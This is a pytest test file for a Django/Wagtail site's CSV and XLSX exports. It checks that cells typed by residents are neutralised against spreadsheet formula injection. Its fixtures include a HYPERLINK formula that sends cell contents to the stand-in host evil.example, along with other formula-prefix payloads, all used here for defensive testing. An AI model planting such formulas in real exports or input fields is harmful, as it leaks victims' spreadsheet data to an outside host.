"""No export hands a spreadsheet program a formula typed by a resident (CSV/formula injection)."""

import csv
import datetime
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.contrib.search_promotions.models import Query

from home.exports import safe_cell
from rankings.importing import read_table
from rankings.models import Criterion
from tests.factories.home import CompoundFactory, PropertyFirmFactory
from tests.factories.rankings import CriterionFactory, RankingIndexPageFactory, month_with_scores
from tests.factories.services import (
    AppointmentFactory,
    ServiceIndexPageFactory,
    ServiceOfferingPageFactory,
    ServiceStationFactory,
    SlotFactory,
)

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点此")'
HOSTILE = [FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


def csv_cells(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def assert_no_formula(cells, typed):
    assert "'" + typed in cells, cells
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), cells


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_neutralises_every_formula_prefix(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["回风亭", "13812345678", "", 5, -5, None, "a=b"])
def test_safe_cell_leaves_other_values_alone(value):
    assert safe_cell(value) == value


@pytest.fixture
def superuser_client(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("root", "r@example.cn", "pw"))
    return client


def test_appointment_export(superuser_client, home_page):
    offering = ServiceOfferingPageFactory(parent=ServiceIndexPageFactory(parent=home_page))
    station = ServiceStationFactory(offerings=[offering])
    AppointmentFactory(offering=offering, slot=SlotFactory(station=station), requester_name=FORMULA)
    response = superuser_client.get(reverse("services_appointments:export"))
    assert response.status_code == 200
    assert_no_formula(csv_cells(response), FORMULA)


@pytest.fixture
def hostile_month(home_page):
    community = PropertyFirmFactory().community
    firm = PropertyFirmFactory(community=community, name="@物业", slug="at-firm")
    CompoundFactory(community=community, property_firm=firm, name="-小区", slug="minus")
    Criterion.objects.all().delete()  # the ones seeded by the migration
    CriterionFactory(name="保洁", max_score=30)
    index = RankingIndexPageFactory(parent=home_page)
    index.save_revision().publish()
    month = month_with_scores(
        index, datetime.date(2026, 10, 1), {firm: [10]}, publish=False, remarks=FORMULA
    )
    return month


def test_score_template_csv_and_xlsx(superuser_client, hostile_month):
    response = superuser_client.get(reverse("rankings_template", args=[hostile_month.pk, "csv"]))
    assert_no_formula(csv_cells(response), FORMULA)
    assert_no_formula(csv_cells(response), "@物业")
    response = superuser_client.get(reverse("rankings_template", args=[hostile_month.pk, "xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [cell.value for row in sheet.iter_rows() for cell in row]
    assert "'" + FORMULA in cells and "'@物业" in cells
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    # Filled in and uploaded again, the template gives back the text as typed.
    rows = read_table(SimpleUploadedFile("t.xlsx", response.content))
    assert FORMULA in [cell for row in rows for cell in row]


def test_public_month_csv(client, hostile_month):
    hostile_month.save_revision().publish()
    response = client.get(hostile_month.url + "csv/")
    assert response.status_code == 200
    cells = csv_cells(response)
    assert_no_formula(cells, "@物业")
    assert "'-小区" in cells


def test_search_terms_report_export(superuser_client):
    query = Query.get(FORMULA)  # Wagtail lower-cases what it records
    query.add_hit()
    response = superuser_client.get(reverse("site_search_report") + "?export=csv")
    assert response.status_code == 200
    assert_no_formula(csv_cells(response), query.query_string)
